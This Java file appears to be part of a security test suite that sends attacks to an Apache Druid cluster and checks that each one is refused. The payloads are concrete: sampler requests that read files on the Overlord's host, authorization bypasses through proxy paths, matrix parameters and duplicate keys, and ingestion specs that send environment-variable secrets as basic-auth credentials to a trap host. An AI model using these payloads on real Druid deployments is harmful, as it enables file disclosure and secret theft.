package org.warden.druid.attack;

import org.warden.druid.cluster.Await;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

import static org.warden.druid.attack.Attack.Version.DRUID_27;
import static org.warden.druid.attack.Attack.Version.DRUID_33;

/** Door 5, which answers at once with what it read; and door 12, whose secrets the trap sees come. */
final class SamplerAttacks
{
  static final String SAMPLER = "/druid/indexer/v1/sampler";

  private static final String EXTERNAL = "user 'sam' needs READ on EXTERNAL 'EXTERNAL'";
  private static final String WITH_SECRET =
      "{\"type\":\"http\",\"uris\":[\"$TRAP/secret/PLACE.csv\"],\"httpAuthenticationUsername\":\"x\","
      + "\"httpAuthenticationPassword\":{\"type\":\"environment\",\"variable\":\"PATH\"}}";

  private SamplerAttacks()
  {
  }

  static List<Attack> rows()
  {
    List<Attack> rows = new ArrayList<>();
    addSampler(rows);
    addSecrets(rows);
    return rows;
  }

  private static void addSampler(List<Attack> rows)
  {
    Message file = sampler(Ingestion.sampler(Extern.SECRET_FILE));
    Outcome shows = Outcome.shows("the file", Trap.SECRET);
    rows.add(sample("a file of the Overlord's host", file, shows, EXTERNAL));
    rows.add(sample("a folder of the Overlord's host", sampler(Ingestion.sampler(Extern.SECRET_FOLDER)), shows, EXTERNAL));
    rows.add(sample("`/etc/hostname`", sampler(Ingestion.sampler("{\"type\":\"local\",\"files\":[\"/etc/hostname\"]}")
                                                        .replace("\"columns\":[", "\"columns\":[\"h\",")), Outcome.accepts(), EXTERNAL));
    rows.add(sample("a URL", sampler(Ingestion.sampler(Extern.SECRET_URL)), Outcome.shows("what lies there", Trap.SECRET), EXTERNAL));
    rows.add(sample("inline data without EXTERNAL", sampler(Ingestion.sampler(Extern.INLINE)), Outcome.accepts(), EXTERNAL));
    rows.add(sample("a datasource that he may not read",
                    sampler(Ingestion.sampler(Extern.PAYROLL).replace(",\"inputFormat\":" + Extern.FORMAT, "")),
                    Outcome.shows("its rows", AttackedCluster.SALARY), "user 'sam' needs READ on DATASOURCE 'payroll'"));
    rows.add(sample("two files combined", sampler(Ingestion.sampler(
        "{\"type\":\"combining\",\"delegates\":[" + Extern.SECRET_FILE + "," + Extern.SECRET_FOLDER + "]}")),
                    Outcome.answers(400, "Druid cannot sample it"), EXTERNAL));
    rows.add(sample("a file, through the Router", file.throughRouter(), shows, EXTERNAL));
    rows.add(sample("a file, through the Router's proxy", file.to("router", "/proxy/overlord" + SAMPLER), shows, EXTERNAL));
    rows.add(sample("a file, with a trailing slash", file.at(SAMPLER + "/"), shows, EXTERNAL));
    rows.add(sample("a file, with matrix parameters", file.at("/druid/indexer;a=b/v1/sampler;x=1"), shows, EXTERNAL));
    rows.add(sample("a file, compressed", file.as(Body.GZIP), shows, EXTERNAL));
    rows.add(sample("a file, `files` twice, an allowed one first", sampler(Ingestion.sampler(
        "{\"type\":\"local\",\"files\":[\"$VAULT/open/open.csv\"],\"files\":[\"$VAULT/secret/secret.csv\"]}")), shows, EXTERNAL));
    rows.add(sample("a `receiver` firehose", sampler("""
        {"type":"index","spec":{"type":"index","dataSchema":{"dataSource":"sample","parser":{"type":"string",\
        "parseSpec":{"format":"csv","columns":["day","page"],"timestampSpec":{"column":"day"},"dimensionsSpec":{}}}},\
        "ioConfig":{"type":"index","firehose":{"type":"receiver","serviceName":"sam"}}},"samplerConfig":{"numRows":1,"timeoutMs":1000}}"""),
        Outcome.answers(400, "Druid wants an input source"), Refusal.status(400, "is required")).on(DRUID_27));
  }

  private static void addSecrets(List<Attack> rows)
  {
    String refused = "environment";
    rows.add(secret("an environment variable as the password for a URL, in the sampler",
                    sampler(Ingestion.sampler(withSecret("sampled"))), sends("sampled"), refused));
    rows.add(secret("the same in a task", Message.task(Ingestion.parallel("hank_ds", withSecret("task"))), sends("task"), refused));
    rows.add(secret("the same in `combining`", Message.task(Ingestion.parallel("hank_ds",
        "{\"type\":\"combining\",\"delegates\":[" + withSecret("one") + "," + withSecret("two") + "]}")), Outcome.accepts(), refused));
    rows.add(secret("the same in EXTERN", Message.sql("/druid/v2/sql/task",
        "SELECT COUNT(*) FROM " + Extern.table(withSecret("extern")), "[]"), sends("extern"), refused).on(DRUID_27));
    rows.add(secret("the same in EXTERN, as a statement", Message.sql("/druid/v2/sql/statements",
        "SELECT COUNT(*) FROM " + Extern.table(withSecret("statement")), "[]"), Outcome.accepts(), refused).on(DRUID_27));
    rows.add(Attack.of(12, Attacker.HANK, "the same in EXTERN, prepared over JDBC",
        new JdbcStatement("broker", false, true, "SELECT COUNT(*) FROM " + Extern.table(withSecret("jdbc"))),
        Outcome.accepts(), Refusal.thrown(refused)));
    rows.add(secret("an environment variable as the password for a database, in a lookup", Message.post("coordinator",
        ConfigurationAttacks.LOOKUPS + "/__default/secret", ConfigurationAttacks.versioned("""
        {"type":"cachedNamespace","extractionNamespace":{"type":"jdbc","connectorConfig":{"connectURI":\
        "jdbc:mysql://127.0.0.1:3306/db","user":"x","password":{"type":"environment","variable":"PATH"}},"table":"t",\
        "keyColumn":"k","valueColumn":"v"}}""")), Outcome.accepts(), refused));
  }

  static String withSecret(String place)
  {
    return WITH_SECRET.replace("PLACE", place);
  }

  private static Message sampler(String json)
  {
    return Message.post("coordinator", SAMPLER, json);
  }

  private static Attack sample(String what, Message message, Outcome stock, String sentence)
  {
    return sample(what, message, stock, Refusal.saying(sentence));
  }

  private static Attack sample(String what, Message message, Outcome stock, Refusal refusal)
  {
    return Attack.of(5, Attacker.SAM, "samples " + what, message, stock, refusal).on(DRUID_27, DRUID_33);
  }

  private static Attack secret(String what, Message message, Outcome stock, String sentence)
  {
    return Attack.of(12, Attacker.HANK, what, message, stock, sentence).on(DRUID_27, DRUID_33);
  }

  /** The trap gets the variable's value: it is the test's own, too. */
  static Outcome sends(String place)
  {
    String login = "x:" + System.getenv("PATH");
    String header = "Basic " + Base64.getEncoder().encodeToString(login.getBytes(StandardCharsets.UTF_8));
    return new Outcome("accepted; sends the variable's value", (cluster, answer) -> {
      answer.orFail("it was to be accepted");
      Await.until("the secret comes", () -> cluster.trap().visits().stream().anyMatch(
          visit -> visit.path().contains(place) && visit.authorization().equals(header)
      ));
    });
  }
}
